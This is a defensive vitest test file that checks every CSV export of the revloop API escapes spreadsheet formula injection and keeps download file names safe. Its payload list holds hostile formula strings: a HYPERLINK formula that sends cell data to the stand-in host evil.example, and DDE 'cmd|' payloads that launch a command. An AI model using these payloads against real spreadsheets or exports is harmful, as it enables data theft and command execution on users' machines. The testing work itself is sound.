// CSV formula injection: every CSV revloop writes (contacts, accounts, deals, content audit, costs exports, the board
// report and the import error report) neutralises cells a spreadsheet would run as a formula (= + - @ tab CR, and full-width forms) with
// a leading apostrophe. The CSV routes are read from the route table, so a new export must be added here.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../app.ts';
import { makeItem } from '../../src/domains/content/sales-test-helpers.ts';
import { defineProperty, uploadOk } from '../../src/domains/contacts/import/test-helpers.ts';

const PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '＝1+1', '=1+1;=2'];
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

let t: TestApp;
let importId: number;
beforeAll(async () => {
  t = await createTestApp({ jobs: true });
  await defineProperty(t, { key: 'note', label: 'Note', type: 'text' });
  const account = await t.api('POST', '/accounts', { name: PAYLOADS[0], industry: PAYLOADS[1], country: PAYLOADS[3], domain: 'formula.example' });
  expect(account.statusCode, account.body).toBe(201);
  for (const [i, p] of PAYLOADS.entries()) {
    const c = await t.api('POST', '/contacts', { email: `formula${i}@formula.example`, firstName: p, lastName: p, title: p, phone: p.slice(0, 50), accountId: account.json().id, properties: { note: p } });
    expect(c.statusCode, c.body).toBe(201);
    const d = await t.api('POST', '/deals', { name: p, lostReason: p, accountId: account.json().id, externalId: `${p}#${i}` });
    expect(d.statusCode, d.body).toBe(201);
    await makeItem(t, { title: p });
    const tool = await t.api('POST', '/tools', { name: `${p} #${i}`, vendor: p });
    expect(tool.statusCode, tool.body).toBe(201);
    const cost = await t.api('POST', '/costs', { toolId: tool.json().id, month: `2026-${String(i + 1).padStart(2, '0')}`, category: 'tools', planned: 1, note: p });
    expect(cost.statusCode, cost.body).toBe(201);
  }
  // The board report's top campaigns: a campaign named like a formula, an offline touch of it, then a won deal.
  const camp = await t.api('POST', '/campaigns', { name: PAYLOADS[0], utmCampaign: 'formula-camp' });
  expect(camp.statusCode, camp.body).toBe(201);
  const touch = await t.api('POST', '/analytics/offline-touches', { email: 'formula0@formula.example', campaignId: camp.json().id, kind: 'event', occurredAt: '2026-01-05T10:00:00Z' });
  expect(touch.statusCode, touch.body).toBeLessThan(300);
  const won = await t.api('POST', '/deals', { name: 'Formula won', amount: 1000, stage: 'won', wonAt: '2026-02-01T10:00:00Z', contacts: [{ email: 'formula0@formula.example' }] });
  expect(won.statusCode, won.body).toBe(201);
  // An import whose rejected rows carry formulas (the error report repeats the original cells).
  const csv = ['Email,First Name', ...PAYLOADS.map((p) => `"${p.replaceAll('"', '""')}","${p.replaceAll('"', '""')}"`)].join('\n');
  const preview = await uploadOk(t, csv, { name: '=cmd|calc.csv' });
  importId = preview.import.id;
  const start = await t.api('POST', `/imports/${importId}/start`, { mapping: preview.suggestedMapping }, await t.as('marketing'));
  expect(start.statusCode, start.body).toBe(202);
  for (let i = 0; i < 200; i++) {
    const s = (await t.api('GET', `/imports/${importId}`)).json().status;
    if (s === 'completed' || s === 'failed') break;
    await new Promise((r) => setTimeout(r, 100));
  }
});
afterAll(() => t.close());

const EXPORTS = () => ['/contacts/export', '/accounts/export', '/deals/export', '/content/audit/export', '/costs/export', `/imports/${importId}/errors.csv`, '/analytics/board.csv?quarter=2026-Q1&quarters=1&tz=UTC'];

describe('csv formula injection', () => {
  it('covers every CSV route of the API', () => {
    const csvRoutes = t.app.routeTable.filter((r) => r.method === 'GET' && /export|\.csv$/.test(r.url)).map((r) => r.url.replace('/api/v1', '').replace(':id', String(importId)));
    const routes = EXPORTS().map((u) => u.split('?')[0]);
    expect(csvRoutes.sort()).toEqual(routes.sort());
  });

  it('prefixes every formula-looking cell with an apostrophe in every export', async () => {
    const failures: string[] = [];
    for (const url of EXPORTS()) {
      const res = await t.api('GET', url);
      expect(res.statusCode, `${url} ${res.body.slice(0, 200)}`).toBe(200);
      expect(res.headers['content-type'], url).toMatch(/text\/csv/);
      const rows = parse(res.body, { bom: true, relax_column_count: true }) as string[][];
      expect(rows.length, url).toBeGreaterThan(1);
      let hits = 0;
      for (const row of rows) {
        for (const cell of row) {
          if (PAYLOADS.some((p) => cell === `'${p}` || cell.startsWith(`'${p.slice(0, 10)}`))) hits++;
          if (FORMULA_START.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)) failures.push(`${url}: ${JSON.stringify(cell)}`);
        }
      }
      expect(hits, `${url}: the hostile values are in the file, escaped`).toBeGreaterThan(0);
    }
    expect(failures).toEqual([]);
  });

  it('keeps the download file name free of formula or header tricks', async () => {
    const res = await t.api('GET', `/imports/${importId}/errors.csv`);
    const cd = String(res.headers['content-disposition']);
    expect(cd).toMatch(/^attachment; filename="[\w.-]+"$/);
    expect(cd.split('filename=')[1]).not.toMatch(/[=|+@]/);
  });
});
